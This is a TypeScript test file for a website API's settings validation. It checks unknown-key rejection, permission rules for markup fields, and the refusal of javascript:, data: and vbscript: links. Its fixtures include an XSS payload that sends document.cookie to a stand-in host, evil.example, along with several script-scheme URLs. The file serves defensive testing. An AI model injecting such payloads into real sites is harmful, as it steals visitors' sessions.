/**
 * Issue 31, "Settings": the settings document has a declared schema (src/sites/site/settings/schema.ts).
 * A key it does not declare is 400 SETTINGS_UNKNOWN_KEY with its JSON path in `details`, except under
 * `settings.ads` (open, as the spec says), inside the values the specs leave free-form, and where the
 * stored document already holds the key with the same value (a read-modify-write of an older document
 * passes). Every markup-kind value, wherever it sits, needs the `code` permission: the declared markup
 * fields, and a markup-named key (`html`, `*_html`) inside a free-form value.
 */
import { describe, expect, it } from "vitest";
import { newId } from "../../src/lib/ids";
import {
  api,
  type EdgeHeaders,
  forceStoredSettings,
  makeSite,
  orgMember,
  type SiteBody,
  siteMember,
  storedRow,
} from "../support/sites-helpers";

const SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>";

type Answer = SiteBody & { code?: string; detail?: string; details?: { path?: string } };

const patch = (id: string, headers: EdgeHeaders, settings: unknown) =>
  api<Answer>("PATCH", `/api/v1/sites/${id}`, { headers, body: { settings, name: "Must not apply" } });

/** The PATCH is refused with `status` and `code`, and the stored row is byte-for-byte unchanged. */
async function expectRefused(
  siteId: string,
  headers: EdgeHeaders,
  settings: unknown,
  status: number,
  code: string,
) {
  const before = await storedRow(siteId);
  const res = await patch(siteId, headers, settings);
  expect(res.status, JSON.stringify(res.body)).toBe(status);
  expect(res.body.code, JSON.stringify(res.body)).toBe(code);
  expect(await storedRow(siteId)).toEqual(before);
  return res;
}

async function expectUnknownKey(siteId: string, headers: EdgeHeaders, settings: unknown, path: string) {
  const res = await expectRefused(siteId, headers, settings, 400, "SETTINGS_UNKNOWN_KEY");
  expect(res.body.details, JSON.stringify(res.body)).toEqual({ path });
  expect(res.body.detail?.startsWith(`${path}: `), res.body.detail).toBe(true);
}

describe("the attack: markup under a settings key no rule listed", () => {
  it("an html section under home.sections is 400 SETTINGS_UNKNOWN_KEY for a site_editor and an owner, nothing stored", async () => {
    const { site, owner } = await makeSite();
    const settings = { home: { sections: [{ type: "html", html: SCRIPT }] } };
    await expectUnknownKey(site.id, siteMember(site.id, "site_editor"), settings, "settings.home.sections");
    await expectUnknownKey(site.id, owner, settings, "settings.home.sections");
  });

  it("the html section of the home builder: a site_editor is 403 FORBIDDEN, an owner 200", async () => {
    const { site, owner } = await makeSite();
    const settings = {
      home: {
        blocks: [
          { type: "hero", title: "Hi" },
          { type: "html", html: SCRIPT },
        ],
      },
    };
    await expectRefused(site.id, siteMember(site.id, "site_editor"), settings, 403, "FORBIDDEN");
    const res = await patch(site.id, owner, settings);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.settings).toEqual(settings);
  });

  it("a markup-named key inside a free-form value needs `code`: a site_editor is 403, an owner 200", async () => {
    const cases: Record<string, unknown>[] = [
      { menu: [{ label: "Home", href: "/", html: SCRIPT }] },
      { cookies: { banner: true, banner_html: SCRIPT } },
      { applets: { forms: { enabled: true, footer_html: SCRIPT } } },
      { social: { links: [{ x: { HTML: SCRIPT } }] } },
    ];
    for (const settings of cases) {
      const { site, owner } = await makeSite();
      await expectRefused(site.id, siteMember(site.id, "site_editor"), settings, 403, "FORBIDDEN");
      const res = await patch(site.id, owner, settings);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.settings).toEqual(settings);
      // Resent unchanged by the editor (beside another change): the markup is the owner's, and stays.
      const editor = siteMember(site.id, "site_editor");
      const again = await patch(site.id, editor, { ...settings, subscriptions_enabled: true });
      expect(again.status, JSON.stringify(again.body)).toBe(200);
    }
  });

  it("an owner creating a site may not invent keys either", async () => {
    const orgId = newId();
    const res = await api<Answer>("POST", "/api/v1/sites", {
      headers: orgMember(orgId),
      body: { org_id: orgId, name: "New", settings: { home: { sections: [{ html: SCRIPT }] } } },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.code).toBe("SETTINGS_UNKNOWN_KEY");
    expect(res.body.details).toEqual({ path: "settings.home.sections" });
  });
});

describe("undeclared keys: 400 SETTINGS_UNKNOWN_KEY with the JSON path", () => {
  const ROWS: [path: string, settings: Record<string, unknown>][] = [
    ["settings.future_key", { future_key: 1 }],
    ["settings.customization.custom_css", { customization: { theme_base: "dark", custom_css: "body{}" } }],
    ["settings.customization.typography.scale", { customization: { typography: { scale: 1.2 } } }],
    ["settings.seo.title", { seo: { meta_title: "T", title: "T" } }],
    ["settings.header.cta.onclick", { header: { cta: { label: "Buy", href: "/buy", onclick: "x()" } } }],
    ["settings.home.blocks[1].body", { home: { blocks: [{ type: "hero" }, { type: "hero", body: "x" }] } }],
    [
      "settings.home.blocks[0].source.order",
      { home: { blocks: [{ type: "posts", source: { order: "x" } }] } },
    ],
    ["settings.legal.outra_chave", { legal: { perfil: "empresa", outra_chave: "x" } }],
    ["settings.favicon_svg_media_ids", { favicon_svg_media_ids: "m1" }],
    ['settings["odd key"]', { "odd key": true }],
  ];

  it.each(ROWS)("%s", async (path, settings) => {
    const { site, owner } = await makeSite();
    await expectUnknownKey(site.id, owner, settings, path);
  });
});

describe("declared kinds: a value of the wrong kind is 400 with its path", () => {
  const ROWS: [code: string, path: string, settings: Record<string, unknown>][] = [
    [
      "BAD_REQUEST",
      "settings.header.cta.href",
      { header: { cta: { label: "x", href: "javascript:alert(1)" } } },
    ],
    ["BAD_REQUEST", "settings.footer.cta.href", { footer: { cta: { label: "x", href: " javascript:x" } } }],
    ["BAD_REQUEST", "settings.subscriptions_enabled", { subscriptions_enabled: "yes" }],
    ["BAD_REQUEST", "settings.seo.twitter_card", { seo: { twitter_card: "huge" } }],
    ["BAD_REQUEST", "settings.seo.meta_title", { seo: { meta_title: 7 } }],
    [
      "BAD_REQUEST",
      "settings.home.blocks[0].title",
      { home: { blocks: [{ type: "hero", title: { a: 1 } }] } },
    ],
  ];

  it.each(ROWS)("%s at %s", async (code, path, settings) => {
    const { site, owner } = await makeSite();
    const res = await expectRefused(site.id, owner, settings, 400, code);
    expect(res.body.details).toEqual({ path });
  });

  it("links of a call to action: http(s), a path of the site, mailto:, tel: or a fragment", async () => {
    const { site, owner } = await makeSite();
    for (const href of [
      "https://shop.example/buy",
      "/subscribe",
      "mailto:hi@example.com",
      "tel:+5511999",
      "#join",
    ]) {
      const res = await patch(site.id, owner, { header: { cta: { label: "Go", href } } });
      expect(res.status, `${href}: ${JSON.stringify(res.body)}`).toBe(200);
    }
  });
});

describe("links inside free-form values", () => {
  it("a javascript:, data: or vbscript: URL under a link-named key of a free-form value is 400 at its path, nothing stored", async () => {
    const { site } = await makeSite();
    const editor = siteMember(site.id, "site_editor");
    const cases: [unknown, string][] = [
      [
        { menu: { items: [{ label: "Home", href: "javascript:alert(document.cookie)" }] } },
        "settings.menu.items[0].href",
      ],
      [{ legal_links: [{ label: "Privacy", url: " JavaScript:alert(1)" }] }, "settings.legal_links[0].url"],
      [
        { social: { twitter_url: "data:text/html,<script>alert(1)</script>" } },
        "settings.social.twitter_url",
      ],
      [
        { footer_columns: [{ title: "A", links: [{ link: "java\tscript:alert(1)" }] }] },
        "settings.footer_columns[0].links[0].link",
      ],
      [{ menu: { items: [{ label: "x", src: "vbscript:msgbox(1)" }] } }, "settings.menu.items[0].src"],
    ];
    for (const [settings, path] of cases) {
      const res = await expectRefused(site.id, editor, settings, 400, "BAD_REQUEST");
      expect(res.body.details, JSON.stringify(res.body)).toEqual({ path });
    }
  });

  it("ordinary links and text that merely mentions a scheme pass", async () => {
    const { site } = await makeSite();
    const settings = {
      menu: {
        items: [
          { label: "javascript: the good parts", href: "/books/js" },
          { label: "Mail", href: "mailto:a@b.example" },
        ],
      },
      social: { twitter_url: "https://twitter.example/site" },
    };
    const res = await patch(site.id, siteMember(site.id, "site_editor"), settings);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
  });
});

describe("tolerances", () => {
  const OLDER = {
    future_key: { added: "later" },
    seo: { meta_title: "Mine", title_suffix: " | Acme" },
    customization: { theme_base: "dark", layout: { radius: 4, container: "wide" } },
    home: {
      blocks: [
        { type: "hero", title: "Hi", subtitle: "old field" },
        { type: "html", html: "<p>mine</p>" },
      ],
      sections: [{ type: "html", html: "<p>planted before the schema</p>" }],
    },
    header: { model: "auto", cta: { label: "Buy", href: "javascript:legacy()" } },
  };

  it("an older document round-tripped unchanged passes, for an editor too; a changed undeclared value is 400", async () => {
    const { site, owner } = await makeSite();
    await forceStoredSettings(site.id, JSON.stringify(OLDER));
    const editor = siteMember(site.id, "site_editor");
    // Read, modify a declared key, write back: every undeclared key stored with the same value passes.
    const modified = { ...OLDER, social: { x: "https://x.com/acme" } };
    const res = await patch(site.id, editor, modified);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.settings).toEqual(modified);
    // A block moved: its undeclared field is still the stored value (matched within the list).
    const moved = {
      ...modified,
      home: { ...OLDER.home, blocks: [{ type: "divider" }, ...OLDER.home.blocks] },
    };
    expect((await patch(site.id, owner, moved)).status).toBe(200);
    // A new value under an undeclared key is refused, as is a new undeclared key beside the old ones.
    await expectUnknownKey(site.id, owner, { ...moved, future_key: { added: "now" } }, "settings.future_key");
    await expectUnknownKey(
      site.id,
      owner,
      { ...moved, seo: { ...OLDER.seo, title_suffix: " | Other" } },
      "settings.seo.title_suffix",
    );
    await expectUnknownKey(
      site.id,
      editor,
      { ...moved, home: { ...moved.home, sections: [{ type: "html", html: SCRIPT }] } },
      "settings.home.sections",
    );
  });

  it("settings.ads stays open: unknown keys anywhere under ads pass, markup stays refused", async () => {
    const { site } = await makeSite();
    const editor = siteMember(site.id, "site_editor");
    const ads = {
      enabled: true,
      provider: { name: "house", anything: [1, { deep: true }] },
      units: [{ id: "net-1", type: "adsense", client: "ca-pub-1", slot: "123", extra: { any: 1 } }],
    };
    const res = await patch(site.id, editor, { ads });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.settings).toEqual({ ads });
    await expectRefused(
      site.id,
      editor,
      { ads: { ...ads, note: { html: SCRIPT } } },
      400,
      "ADS_UNIT_MARKUP_FORBIDDEN",
    );
  });

  it("the free-form values the specs name (menu, cookies, social, search, footer_columns, legal_links, integrations) pass as sent", async () => {
    const { site } = await makeSite();
    const free = {
      menu: { items: [{ label: "Home", href: "/", children: [] }] },
      cookies: { banner: true, categories: ["analytics"] },
      social: { twitter: "https://twitter.example/site" },
      search: { enabled: true },
      footer_columns: [{ title: "About", links: [] }],
      legal_links: [{ label: "Privacy", url: "/legal/privacy" }],
      integrations: { analytics_token: "t" },
      language_url_mode: "prefix",
      subscriptions_enabled: false,
      applets: { "legal-pages": { enabled: false, installed_at: null, options: { index: true } } },
    };
    const res = await patch(site.id, siteMember(site.id, "site_editor"), free);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.settings).toEqual(free);
  });
});
